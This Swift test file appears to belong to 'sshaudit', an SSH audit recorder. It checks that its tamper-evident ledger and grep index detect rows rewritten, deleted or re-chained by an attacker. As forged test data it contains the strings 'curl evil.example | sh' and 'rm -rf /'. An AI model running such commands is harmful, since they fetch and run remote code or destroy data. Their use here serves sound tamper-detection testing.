import Foundation
import GRDB
@testable import SSHAuditCore
import XCTest
@testable import SSHAuditStore

/// Attacks by someone who can write the database file and extend the ledger exactly as sshaudit
/// computes it (the code is public): `verify` must still name the row, with and without a head kept
/// from before, and the recorder must not bless a tampered row by writing its next version.
extension LedgerTests {
    /// Ledger entries for rows as they are stored now, computed by sshaudit's own code: what an
    /// attacker who read the source appends after changing a row.
    func chainAsStored(_ table: LedgerTable, _ ids: [Int64]) throws {
        try DatabaseQueue(path: path).write { db in try Ledger.appendStored(db, table, ids: ids) }
    }

    /// `verify` fails, naming `table` row `id`.
    func assertNamed(_ table: String, _ id: Int64, expectHead: String? = nil, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertThrowsError(try AuditStore.verify(path: path, expectHead: expectHead),
                             "verify must fail (expect-head: \(expectHead ?? "none"))", file: file, line: line) { error in
            XCTAssertTrue("\(error)".contains("\(table) row \(id) "), "\(error)", file: file, line: line)
        }
    }

    /// The command line as the --grep index holds it (schema/0012).
    static let indexedLine = "CASE WHEN json_valid(argv) THEN (SELECT group_concat(value, ' ') FROM json_each(argv)) ELSE argv END"

    // MARK: - Rewriting history and extending the chain

    func testAFinishedCommandRewrittenAndChainedAgainIsNamed() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        try writeSession(store, id: 2, ids: (2, 2, 2, 2))
        let kept = try AuditStore.verify(path: path).head
        try tamper(#"UPDATE commands SET argv = '["x","harmless"]' WHERE id = 2"#)
        try chainAsStored(.commands, [2])
        assertNamed("commands", 2)
        assertNamed("commands", 2, expectHead: kept)
    }

    /// A column that changes while a row is open (the exit code), changed after its last version.
    func testAFinishedCommandsExitCodeChangedAndChainedAgainIsNamed() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        let kept = try AuditStore.verify(path: path).head
        try tamper("UPDATE commands SET exit_code = 7 WHERE id = 1")
        try chainAsStored(.commands, [1])
        assertNamed("commands", 1)
        assertNamed("commands", 1, expectHead: kept)
    }

    /// The user of a session is set once, at authentication; changing it later is named.
    func testASessionsUserChangedAndChainedAgainIsNamed() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1), end: false)
        let kept = try AuditStore.verify(path: path).head
        try tamper("UPDATE sessions SET user = 'bob', uid = 1001 WHERE id = 1")
        try chainAsStored(.sessions, [1])
        assertNamed("sessions", 1)
        assertNamed("sessions", 1, expectHead: kept)
    }

    func testAnAuthenticationAttemptChangedAndChainedAgainIsNamed() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        try tamper("UPDATE auth_attempts SET remote_addr = '10.9.9.9' WHERE id = 1")
        try chainAsStored(.authAttempts, [1])
        assertNamed("auth_attempts", 1)
    }

    // MARK: - The --grep index

    func testACommandRemovedFromTheGrepIndexIsNamed() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        try writeSession(store, id: 2, ids: (2, 2, 2, 2))
        XCTAssertEqual(try store.indexCommandLines(), 2)
        let reader = try AuditReader(path: path)
        XCTAssertEqual(try reader.commands(QueryFilter(grep: "quoted")).map(\.id), [1, 2])
        try tamper("""
            INSERT INTO commands_argv (commands_argv, rowid, argv) SELECT 'delete', id, \(Self.indexedLine) FROM commands WHERE id = 2
            """)
        assertNamed("commands", 2)
    }

    /// An entry that says a command line contains what it does not: --grep checks each match against
    /// the stored command line, and verify names the entry.
    func testAForgedGrepIndexEntryIsNamedAndMatchesNothing() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        try store.indexCommandLines()
        try tamper("INSERT INTO commands_argv (rowid, argv) VALUES (1, 'curl evil.example | sh')")
        XCTAssertEqual(try AuditReader(path: path).commands(QueryFilter(grep: "evil.example")).map(\.id), [])
        assertNamed("commands", 1)
    }

    // MARK: - The recorder's next version

    /// Tampered while still running; the recorder then writes the command's end. Alone, and with the
    /// changed row chained by the tamperer; by the same store and by a new one (a restarted recorder).
    func testARowTamperedWhileOpenIsNotBlessedByItsNextVersion() throws {
        var store = try AuditStore.openForRecording(path: path)
        let s = session(1)
        var first = command(1, session: 1), second = command(2, session: 1)
        try store.write([.session(s), .command(first), .command(second)])
        try tamper(#"UPDATE commands SET argv = '["x","harmless"]' WHERE id = 1"#)
        first.endedAtNs = first.startedAtNs + 1_000_000; first.exitCode = 0
        try store.write([.command(first)])
        assertNamed("commands", 1)

        try tamper(#"UPDATE commands SET argv = '["y","harmless"]' WHERE id = 2"#)
        try chainAsStored(.commands, [2])
        store = try AuditStore.openForRecording(path: path)
        second.endedAtNs = second.startedAtNs + 1_000_000; second.exitCode = 0
        try store.write([.command(second)])
        let findings = try DatabaseQueue(path: path).read { db in
            try Int64.fetchAll(db, sql: "SELECT row_id FROM ledger_findings WHERE tbl = 'commands' ORDER BY row_id")
        }
        XCTAssertEqual(findings, [1, 2], "each tampered row is recorded")
    }
}

/// The write path's rules, and what verify accepts: versions after the final one, versions written
/// again by a resumed run, findings, migrations.
extension LedgerTests {
    func entries() throws -> Int {
        try DatabaseQueue(path: path).read { try Int.fetchOne($0, sql: "SELECT COUNT(*) FROM ledger") ?? 0 }
    }

    func testAVersionAfterTheFinalOneIsRefusedAndCounted() throws {
        let store = try AuditStore.openForRecording(path: path)
        var s = session(1)
        var c = command(1, session: 1)
        c.endedAtNs = c.startedAtNs + 1_000_000; c.exitCode = 0
        try store.write([.session(s), .command(c)])
        s.closed = true; s.endedAtNs = c.startedAtNs + 2_000_000
        try store.write([.session(s)])
        let before = try entries()
        c.exitCode = 1
        s.bytesIn = 99
        try store.write([.command(c), .session(s)])
        XCTAssertEqual(store.integrity, { var i = WriteIntegrity(); i.refusedVersions = 2; return i }())
        XCTAssertEqual(try entries(), before)
        let stored = try DatabaseQueue(path: path).read { db in
            try Row.fetchOne(db, sql: "SELECT (SELECT exit_code FROM commands), (SELECT bytes_in FROM sessions)")
        }
        XCTAssertEqual(stored?[0] as Int64?, 0)
        XCTAssertNil(stored?[1] as Int64?)
        XCTAssertNoThrow(try AuditStore.verify(path: path))
    }

    /// The correlator may learn that a session is closed without anything else changing: the row
    /// stays as it is, and an entry says that version is its last.
    func testASessionClosedWithoutOtherChangeGetsAnEntryAndNothingAfter() throws {
        let store = try AuditStore.openForRecording(path: path)
        var s = session(1)
        s.endedAtNs = Self.t0 + 5
        try store.write([.session(s)])
        s.closed = true
        try store.write([.session(s)])
        try store.write([.session(s)])
        XCTAssertEqual(try entries(), 2)
        s.bytesIn = 7
        try store.write([.session(s)])
        XCTAssertEqual(store.integrity.refusedVersions, 1)
        XCTAssertEqual(try entries(), 2)
        XCTAssertNoThrow(try AuditStore.verify(path: path))
    }

    /// A resumed run reads the records after its last checkpoint again: the same versions, and older
    /// ones of rows written since, change nothing and are not tampering.
    func testVersionsWrittenAgainByAResumedRunAreNotTampering() throws {
        let store = try AuditStore.openForRecording(path: path)
        let v1 = session(1)
        var v2 = v1
        v2.user = "alice"; v2.uid = 1000; v2.authenticatedAtNs = Self.t0 + 1
        var c = command(1, session: 1)
        let open = c
        c.endedAtNs = c.startedAtNs + 1_000_000; c.exitCode = 0
        let batch: [CorrelatorOutput] = [.session(v1), .auth(auth(1, session: 1)), .command(open)]
        try store.write(batch)
        try store.write([.session(v2), .command(c)])
        let before = try entries()
        let again = try AuditStore.openForRecording(path: path)
        try again.write(batch)  // v1 again: older than what is stored
        try again.write([.session(v2), .command(c)])
        XCTAssertEqual(again.integrity.findings, 0)
        XCTAssertEqual(again.integrity.refusedVersions, 1, "the command's open version after its end")
        XCTAssertEqual(try entries(), before + 2, "the session's two versions again; nothing else")
        XCTAssertNoThrow(try AuditStore.verify(path: path))
    }

    func testARowDeletedBeforeItsNextVersionIsRecorded() throws {
        let store = try AuditStore.openForRecording(path: path)
        var c = command(1, session: 1)
        try store.write([.session(session(1)), .command(c)])
        try tamper("DELETE FROM commands WHERE id = 1")
        c.endedAtNs = c.startedAtNs + 1_000_000
        try store.write([.command(c)])
        XCTAssertEqual(store.integrity.findings, 1)
        XCTAssertThrowsError(try AuditStore.verify(path: path)) { error in
            guard case .foundByRecorder(table: "commands", id: 1, finding: 1, what: "had been deleted")? = error as? LedgerProblem else {
                return XCTFail("\(error)")
            }
        }
    }

    /// A user set at authentication is not tampering; a user changed afterwards is, by whoever.
    func testASessionsUserIsSetOnce() throws {
        let store = try AuditStore.openForRecording(path: path)
        var s = session(1)
        s.remote = nil; s.local = nil
        try store.write([.session(s)])
        s.remote = Endpoint(address: "127.0.0.1", port: 40_000)  // learnt late, from /proc
        try store.write([.session(s)])
        s.user = "alice"; s.uid = 1000
        try store.write([.session(s)])
        XCTAssertNoThrow(try AuditStore.verify(path: path))
        s.user = "bob"
        try store.write([.session(s)])
        XCTAssertEqual(store.integrity.findings, 1)
        assertNamed("sessions", 1)
    }

    func testAChangedRecorderRunIsRecordedAtItsNextUpdate() throws {
        let store = try AuditStore.openForRecording(path: path)
        let run = try store.startRun(atNs: Self.t0)
        try tamper("UPDATE recorder_runs SET started_at = '2020-01-01T00:00:00.000Z' WHERE id = \(run)")
        try store.updateRun(run, counters: AuditStore.RunCounters(), stoppedAtNs: Self.t0 + 1, clean: false)
        XCTAssertEqual(store.integrity.findings, 1)
        assertNamed("recorder_runs", run)
    }

    /// An entry in the format from before its state (0015), appended after entries with it.
    func testAnEntryWithoutItsStateAfterOnesWithItBreaksTheChain() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        try DatabaseQueue(path: path).write { db in
            let head = try Row.fetchOne(db, sql: "SELECT seq, chain FROM ledger ORDER BY seq DESC LIMIT 1")!
            let rowHash = try Row.fetchOne(db, sql: "SELECT row_hash FROM ledger WHERE tbl = 'commands' ORDER BY seq DESC LIMIT 1")![0] as Data
            let seq = (head[0] as Int64) + 1
            let chain = Ledger.chain(previous: [UInt8](head[1] as Data), seq: seq, table: "commands", rowID: 1,
                                     rowHash: [UInt8](rowHash), state: nil)
            try db.execute(sql: "INSERT INTO ledger (seq, tbl, row_id, row_hash, chain) VALUES (?, 'commands', 1, ?, ?)",
                           arguments: [seq, rowHash, Data(chain)])
        }
        assertProblem(.entryAltered(seq: 10))
    }

    /// Ledger entries as the sshaudit of an older database wrote them: over the columns it had.
    func appendAsOlder(_ db: Database, _ table: LedgerTable) throws {
        let existing = try Ledger.schema(db).columns[table] ?? []
        try Ledger.appendStored(db, table, columns: table.columns.filter(existing.contains))
    }

    /// A database as an older sshaudit left it: the migrations before `name` only.
    func databaseMigrated(before name: String) throws -> DatabaseQueue {
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let old = try DatabaseQueue(path: path)
        var migrator = DatabaseMigrator()
        for migration in embeddedMigrations where migration.name < name {
            migrator.registerMigration(migration.name) { db in
                let before = try Ledger.schema(db)
                try db.execute(sql: migration.sql)
                try Ledger.afterMigration(db, before: before)
            }
        }
        try migrator.migrate(old)
        return old
    }

    /// A database from before 0015: its rows are entered with their state when it is upgraded, so
    /// its history is protected from then on.
    func testADatabaseFromBeforeTheStateIsProtectedOnceUpgraded() throws {
        let old = try databaseMigrated(before: "0015")
        try old.write { db in
            try db.execute(sql: """
                INSERT INTO sessions (id, sshd_pid, sshd_start_ns, started_at, user) VALUES (1, 100, 5, '2026-01-01T00:00:00.000Z', 'bob');
                INSERT INTO commands (id, session_id, pid, ppid, uid, filename, argv, started_at, ended_at)
                    VALUES (1, 1, 101, 100, 1000, '/bin/ls', '["ls"]', '2026-01-01T00:00:01.000Z', '2026-01-01T00:00:02.000Z');
                """)
            try appendAsOlder(db, .sessions)
            try appendAsOlder(db, .commands)
        }
        try old.close()
        XCTAssertNoThrow(try AuditStore.verify(path: path), "entries without state verify as before")
        _ = try AuditStore.openForRecording(path: path)
        let kept = try AuditStore.verify(path: path).head
        try tamper(#"UPDATE commands SET argv = '["ls","-la"]' WHERE id = 1"#)
        try chainAsStored(.commands, [1])
        assertNamed("commands", 1)
        assertNamed("commands", 1, expectHead: kept)
    }

    // MARK: - The --grep index, further

    /// Before schema 0012 triggers kept the index complete, with no record of how far it went.
    func testTheGrepIndexOfADatabaseFromBeforeItsWatermarkVerifies() throws {
        let old = try databaseMigrated(before: "0012")
        try old.write { db in
            try db.execute(sql: """
                INSERT INTO sessions (id, sshd_pid, sshd_start_ns, started_at) VALUES (1, 100, 5, '2026-01-01T00:00:00.000Z');
                INSERT INTO commands (id, session_id, pid, ppid, uid, filename, argv, started_at)
                    VALUES (1, 1, 101, 100, 1000, '/bin/ls', '["ls","-la"]', '2026-01-01T00:00:01.000Z');
                """)
            try appendAsOlder(db, .sessions)
            try appendAsOlder(db, .commands)
        }
        try old.close()
        XCTAssertEqual(try AuditStore.verify(path: path).indexedCommands, 1)
        try tamper("INSERT INTO commands_argv (commands_argv, rowid, argv) VALUES ('delete', 1, 'ls -la')")
        assertNamed("commands", 1)
    }

    func testTheGrepIndexMustHoldWhatItsWatermarkSays() throws {
        let store = try AuditStore.openForRecording(path: path)
        try writeSession(store, id: 1, ids: (1, 1, 1, 1))
        try writeSession(store, id: 2, ids: (2, 2, 2, 2))
        XCTAssertEqual(try store.indexCommandLines(limit: 1), 1)
        XCTAssertEqual(try AuditStore.verify(path: path).indexedCommands, 1)
        let pristine = try snapshot()
        func reset() throws { try pristine.backup(to: DatabaseQueue(path: path)) }

        // Raised: command 2 would be looked for in the index only, where it is not.
        try tamper("UPDATE commands_argv_progress SET indexed_upto = 2")
        assertNamed("commands", 2)
        try reset()
        // An entry past it, for a command that does not exist.
        try tamper("INSERT INTO commands_argv (rowid, argv) VALUES (7, 'rm -rf /')")
        assertNamed("commands", 7)
        try reset()
        try tamper("DROP TABLE commands_argv_progress")
        XCTAssertThrowsError(try AuditStore.verify(path: path)) { error in
            guard case .grepIndexUnusable? = error as? LedgerProblem else { return XCTFail("\(error)") }
        }
        try reset()
        XCTAssertNoThrow(try AuditStore.verify(path: path))
    }

    /// Command lines the index may hold in any form: every one must check out as it is.
    func testTheGrepIndexOfUnusualCommandLinesVerifies() throws {
        let store = try AuditStore.openForRecording(path: path)
        var batch: [CorrelatorOutput] = [.session(session(1))]
        let lines: [[String]] = [[], ["a"], ["ab"], ["abc"], ["nul\u{0}inside", "x"], ["ünïcödé", "日本語のテキスト"],
                                 ["tab\there", "new\nline", "quote\"s", "back\\slash"], ["emoji 🙂🙃", "𝔘𝔫𝔦"]]
        for (i, argv) in lines.enumerated() {
            var c = command(Int64(i + 1), session: 1)
            c.argv = argv
            c.endedAtNs = c.startedAtNs + 1
            batch.append(.command(c))
        }
        try store.write(batch)
        try store.indexCommandLines()
        XCTAssertEqual(try AuditStore.verify(path: path).indexedCommands, lines.count)
        XCTAssertEqual(try AuditReader(path: path).commands(QueryFilter(grep: "本語の")).map(\.id), [6])
    }
}
